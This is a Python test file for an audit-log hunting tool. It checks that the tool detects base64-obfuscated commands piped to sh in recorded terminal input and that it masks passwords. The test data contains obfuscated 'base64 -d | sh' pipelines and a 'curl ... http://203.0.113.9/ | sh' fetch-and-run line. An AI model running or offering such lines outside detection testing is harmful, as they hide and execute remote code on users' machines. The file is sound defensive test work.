# SPDX-License-Identifier: GPL-3.0-or-later
"""typed/: what TTY and USER_TTY records say was typed. Of it what hides and
runs something is told, and no other byte."""

import base64
import json
import os

import auditgen
from suite import AUHUNT, Failure, ROOT, hunt, run

FORMATS = ("json", "cee", "hunt", "auoms")
OPTIONS = ("-o", "hunt_dir=" + os.path.join(ROOT, "conf", "hunt.d"))
SHELL = 200             # the pid of the shell at the terminal
PAYLOAD = b"id; uname -a; hostname"
# None of these may ever be told.
PASSWORD = b"hunter2-Tr0ub4dor"
HIDDEN_PASSWORD = b"a passphrase that is long enough"


def b64(text):
    return base64.b64encode(text)


def pipe(text):
    return b"echo " + b64(text) + b" | base64 -d | sh\n"


def execs(serial, sec, shell=SHELL):
    """base64 -d and sh, of that shell."""
    first = shell + serial
    for number, (exe, argv) in enumerate((
            (b"/usr/bin/base64", [b"base64", b"-d"]),
            (b"/usr/bin/dash", [b"sh"]))):
        yield from auditgen.exec_event(
            serial + number, argv, sec=sec, msec=number, exe=exe,
            pid=first + number, ppid=shell, uid=1000, euid=1000)


def bash(serial, sec, shell=SHELL):
    return auditgen.exec_event(serial, [b"-bash"], sec=sec,
                               exe=b"/usr/bin/bash", pid=shell, ppid=199,
                               uid=1000, euid=1000)


def tty(serial, sec, keys, shell=SHELL):
    return [auditgen.stamp("TTY", serial, sec, 0) +
            b"tty pid=%d uid=1000 auid=1000 ses=7 major=136 minor=0 "
            b"comm=\"bash\" data=%s" % (shell, auditgen.encode(keys))]


def user_tty(serial, sec, keys, shell=SHELL):
    return [auditgen.stamp("USER_TTY", serial, sec, 0) +
            b"pid=%d uid=1000 auid=1000 ses=7 data=%s" % (
                shell, auditgen.encode(keys))]


def log(*events):
    return auditgen.join(sum(map(list, events), []))


def rows_of(data):
    rows = [json.loads(line) for line in hunt(data=data, options=OPTIONS)
            .splitlines()]
    typed = [row for row in rows if row.get("action") == "typed"]
    runs = [row for row in rows if row["evt"] == "exec" and
            row.get("payload")]
    return typed, runs, rows[-1]


def differ(what, got, want):
    if got != want:
        yield "%s is %s, should be %s" % (what, got, want)


def check_told(row, text=PAYLOAD, kind="TTY", executed="yes"):
    for key, value in (("evt", "session"), ("decoded", text.decode()),
                       ("chain", "base64"), ("type", kind), ("ses", 7),
                       ("pid", SHELL), ("executed", executed),
                       ("trust", "kernel" if kind == "TTY" else "program"),
                       ("cmd", None), ("iocs", None)):
        yield from differ(key, row.get(key), value)
    if row["parts"].get("obfuscation", 0) <= 0 or \
            (executed and row["parts"].get("payload", 0) <= 0):
        yield "parts are %s" % row["parts"]


def after(keys, text=PAYLOAD):
    """The kernel tells at the end of what ran before."""
    typed, runs, _ = rows_of(log(bash(1, 1700000000), execs(10, 1700000001),
                                 tty(20, 1700000009, keys)))
    if len(typed) != 1 or not runs:
        yield "%d lines, %d commands of a payload" % (len(typed), len(runs))
        return
    yield from check_told(typed[0], text)
    yield from differ("payload", {row["payload"] for row in runs},
                      {typed[0]["payload"]})
    yield from differ("tty", typed[0].get("tty"), "pts0")


def timeline():
    """The line that hides something, and no other."""
    data = log(bash(1, 1700000000), execs(10, 1700000001),
               tty(20, 1700000009, b"ls\n" + pipe(PAYLOAD) + b"date\n"))
    rows = [json.loads(line) for line in run(
        [AUHUNT, "timeline", "--json", *OPTIONS, "-"], data=data).splitlines()]
    got = [{key: row.get(key) for key in ("time", "ses", "chain", "decoded",
                                          "exe")}
           for row in rows if row["kind"] == "typed"]
    yield from differ("rows", got, [{
        "time": 1700000009, "ses": 7, "chain": "base64",
        "decoded": PAYLOAD.decode(), "exe": None}])
    text = run([AUHUNT, "timeline", *OPTIONS, "-"], data=data).decode()
    if " typed in session 7: %s\n" % PAYLOAD.decode() not in text:
        yield text


def before():
    """A shell tells before it runs it."""
    typed, runs, _ = rows_of(log(
        bash(1, 1700000000), user_tty(5, 1700000001, pipe(PAYLOAD)[:-1]),
        execs(10, 1700000001)))
    if len(typed) != 1 or not runs:
        yield "%d lines, %d commands of a payload" % (len(typed), len(runs))
        return
    yield from check_told(typed[0], kind="USER_TTY", executed=None)
    yield from differ("payload", {row["payload"] for row in runs},
                      {typed[0]["payload"]})


def elsewhere():
    """Another shell's pipeline is not this one's."""
    typed, runs, _ = rows_of(log(
        bash(1, 1700000000), bash(2, 1700000000, 900),
        execs(10, 1700000001, 900), tty(30, 1700000009, pipe(PAYLOAD))))
    if len(typed) != 1 or not runs:
        yield "%d lines, %d commands of a payload" % (len(typed), len(runs))
        return
    yield from check_told(typed[0], executed=None)
    if typed[0]["payload"] in {row["payload"] for row in runs}:
        yield "it is the other shell's"


def late():
    """What the kernel tells is of what was, not of what comes."""
    typed, runs, _ = rows_of(log(
        bash(1, 1700000000), tty(5, 1700000001, pipe(PAYLOAD)),
        execs(10, 1700000002)))
    if len(typed) != 1 or not runs:
        yield "%d lines, %d commands of a payload" % (len(typed), len(runs))
        return
    yield from check_told(typed[0], executed=None)
    if typed[0]["payload"] in {row["payload"] for row in runs}:
        yield "it is of the pipeline after it"


def secrets(keys, n_lines):
    """In no format and no view."""
    data = log(bash(1, 1700000000), execs(10, 1700000001),
               tty(20, 1700000009, keys), user_tty(21, 1700000010, keys))
    outputs = [hunt(data=data, fmt=fmt, options=OPTIONS) for fmt in FORMATS]
    for view in (["events"], ["sessions"], ["sessions", "7"], ["rank"],
                 ["users"], ["timeline"]):
        for extra in ([], ["--json"]):
            outputs.append(run([AUHUNT, *view[:1], *OPTIONS, *extra,
                                *view[1:], "-"], data=data))
    for output in outputs:
        for secret in (PASSWORD, HIDDEN_PASSWORD, b64(HIDDEN_PASSWORD)):
            for form in (secret, secret.hex().encode(),
                         secret.hex().upper().encode()):
                if form in output:
                    yield "%r is told" % form
    typed, _, status = rows_of(data)
    yield from differ("lines", len(typed), n_lines)
    if n_lines == 0:
        yield from differ("quiet", status["events_quiet"], 2)


def masked():
    """A password in what is decoded is masked as in any command."""
    text = b"mysql -u root --password=" + PASSWORD + b" -e status"
    yield from secrets(pipe(text), 2)
    typed, _, _ = rows_of(log(bash(1, 1700000000), tty(
        20, 1700000009, pipe(text))))
    yield from differ("redacted", bool(typed[0].get("redacted")), True)
    if not typed[0]["decoded"].startswith("mysql -u root --password="):
        yield typed[0]["decoded"]


def broken():
    """Whatever a record says, nothing is made up."""
    for body in (b"tty pid=200 data=", b"tty pid=200 uid=1000 data=4",
                 b"tty data=" + b"41" * 4096, b"data=\"x", b"tty",
                 b"pid=99999999999 major=136 minor=9999999999 data=6964"):
        lines = [auditgen.stamp("TTY", 5, 1700000000, 0) + body]
        typed, _, status = rows_of(log(lines))
        yield from differ("lines of %r" % body[:40], len(typed), 0)
        yield from differ("events", status["events"], 1)


def cases(suite):
    plain = b"ls -l\nsudo -s\n" + PASSWORD + b"\nmysql -p" + PASSWORD + \
        b"\ncurl -u a:" + PASSWORD + b" http://203.0.113.9/ | sh\n" + \
        b64(HIDDEN_PASSWORD) + b"\necho " + b64(HIDDEN_PASSWORD) + b"\nexit\n"
    line = pipe(PAYLOAD)
    for name, check in (
            ("after", lambda: after(line)),
            ("after_more", lambda: after(plain + line + plain)),
            ("edited", lambda: after(
                b"ls\x15" + line[:5] + b"xy\x7f\x7f" + line[5:])),
            ("beside", lambda: after(
                b"curl -u a:" + PASSWORD + b" http://203.0.113.9/x; " + line)),
            ("pasted", lambda: after(
                b"\x1b[200~" + line[:-1] + b"\x1b[201~\n")),
            ("here_string", lambda: after(
                b"base64 -d <<< " + b64(PAYLOAD) + b" | sh\n")),
            ("timeline", timeline),
            ("before", before),
            ("elsewhere", elsewhere),
            ("late", late),
            ("secrets", lambda: secrets(plain, 0)),
            ("secrets_in_line", lambda: secrets(
                b"curl -u a:" + PASSWORD + b" http://203.0.113.9/x; " + line,
                2)),
            ("secrets_beside", lambda: secrets(plain + line + plain, 2)),
            ("masked", masked),
            ("broken", broken)):
        if not suite.wanted("typed/" + name):
            continue
        try:
            suite.case("typed/" + name, check())
        except (Failure, ValueError, KeyError) as error:
            suite.fail("typed/" + name, repr(error))
